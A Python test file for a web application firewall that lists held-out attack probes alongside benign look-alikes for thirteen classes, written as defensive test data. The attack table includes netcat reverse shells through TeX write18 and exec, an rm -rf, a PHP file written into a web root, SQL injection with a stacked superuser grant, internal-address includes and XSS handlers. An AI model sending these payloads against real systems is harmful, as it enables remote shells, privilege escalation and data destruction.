"""WAF, part 2z5: held-out probes, twenty-eighth file (README: the
thirty-sixth round), written for this file on 2026-12-05 for the classes
the localization, astronomy, recipes and publishing corpora showed when
they were first replayed (at 40a9d02). No string is taken from a corpus
or a public list: each class is written here in shapes of our own,
through the real edge (shipped config, bans off).

Attacks that must be refused, and look-alikes that must pass:
- bound-unit: a measurement's bound written with its unit mark ("< 0.8\\""
  arcseconds or inches, "> 4'" feet) before "and" in prose (passes); the
  same quote closing a literal after a plain value (refused);
- method-sleep: a language's sleep method on an object ("Thread.Sleep",
  "asyncio.sleep") in a script line (passes); SQL's bare and Oracle's
  package sleep after a breakout (refused);
- tex-shell: TeX's shell escape (\\write18 under any escape character,
  \\ShellEscape, a file read from a pipe) (refused); TeX's ordinary
  file inputs and a mention of write18 in a sentence (pass);
- webroot-output: an output option given a script file in a web root
  (refused); an installer downloaded to the working directory (passes);
- solr-local-params: Solr's local parameters choosing a parser that
  reaches other documents (a join), at the value's start or in a nested
  query (refused); a CRM template's merge field and a function range
  query (pass);
- fetched-element: an XML document's picture or included part at an
  internal address (refused); a picture on a public host (passes);
- filter-stacked: a statement stacked after one comparison of a filter's
  text (refused); a sentence after a comparison and ";" (passes);
- comment-line: a whole line of SQL comment between a breakout and its
  tautology (refused); an e-mail signature's delimiter line (passes);
- xlink-web: a JATS or SVG link to a web address or a relative file
  (passes); to a script URL (refused);
- prefixed-math: MathML under its own prefix (passes); a prefixed
  element with a handler (refused);
- title-children: a caption's title holding inline elements (passes); a
  title closed before the value's own open (refused);
- aside-words: a PHP function name before an aside of two words side by
  side (passes); the call given code (refused);
- glossary-dot: a sink's name before a part of speech, "(n.)" (passes);
  the same name called with a member access (refused).
Measured on 40a9d02 (before the changes): 10 of the 20 attacks passed,
10 of the 19 look-alikes were refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "bound-unit": ['bob" and 1<2 or "a"="a'],
    "method-sleep": ["7' and sleep(9)-- -", "9' || dbms_lock.sleep(9) || '"],
    "tex-shell": ["\\immediate\\write18{nc 198.51.100.4 7 -e sh}",
                  "\\catcode`\\|=0 |write18{id}",
                  "\\ShellEscape{rm -rf ~/x}",
                  "\\input{|\"ls -la /home\"}"],
    "webroot-output": ["x --output /srv/www/htdocs/up.php http://198.51.100.2/u",
                       "-resize 50% -write /usr/share/nginx/public/z.phtml a.png"],
    "solr-local-params": ["{!join from=owner to=id fromIndex=users}*:*",
                          "history AND _query_:\"{!join from=a to=b}x:1\""],
    "fetched-element": ["<inline-graphic xlink:href=\"http://10.0.0.5:8080/f.png\"/>",
                        "<x:include href=\"http://[::1]:9200/_cat/indices\"/>"],
    "filter-stacked": ["weight < 40; ALTER ROLE svc WITH SUPERUSER;--"],
    "comment-line": ["kelp'\n-- see ticket, re-run: yes\nOR 2=2\n-- "],
    "xlink-web": ["<svg><a xlink:href=\"javascript:fetch('//h')\">go</a></svg>"],
    "prefixed-math": ["<m:math onmouseover=alert(1)>x</m:math>"],
    "title-children": ["</title><img src=1 onerror=alert(1)>"],
    "aside-words": ["exec ('nc -e sh 198.51.100.9 4444')"],
    "glossary-dot": ["alert (window.origin)"],
}

BENIGN = {
    "bound-unit": ["fragments < 0.8\" and grain < 2 mm were sieved out",
                   "boards > 4' and planks under 3' go in bin B"],
    "method-sleep": ["while (!ready) { Thread.Sleep(250); } // poll the mount",
                     "retry: await asyncio.sleep(2); then reconnect()"],
    "tex-shell": ["\\input{chapters/methods} and \\include{appendix}",
                  "our build disables write18 for untrusted sources"],
    "webroot-output": ["curl -o install-helper.php https://getcomposer.example/i"],
    "solr-local-params": ["Hi {!Lead.FirstName}, your demo is booked",
                          "{!frange l=1 u=5}log(sum(votes,1))"],
    "fetched-element": ["<inline-graphic xlink:href=\"https://cdn.example.org/f1.png\"/>"],
    "filter-stacked": ["height > 2; see the chart for the rest"],
    "comment-line": ["Thanks, see you Monday!\n-- \nAmy O'Hara, Field Lab"],
    "xlink-web": ["<graphic xlink:href=\"fig-4b.tif\"/>",
                  "<uri xlink:href=\"https://data.example.org/ds/77\">ds 77</uri>"],
    "prefixed-math": ["<m:math><m:mi>x</m:mi><m:mo>=</m:mo><m:mn>2</m:mn></m:math>"],
    "title-children": ["<title>Table 2 <italic>ex situ</italic> <sup>a</sup></title>"],
    "aside-words": ["system (legacy version, still used)",
                    "exec (board member, finance team) approved it"],
    "glossary-dot": ["prompt (n.) \u2192 es: indicaci\u00f3n; prompt (adj.) \u2192 puntual"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r28_attack_refused_everywhere,
 test_heldout_r28_benign_passes) = heldout_probe_tests(
    "r28", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
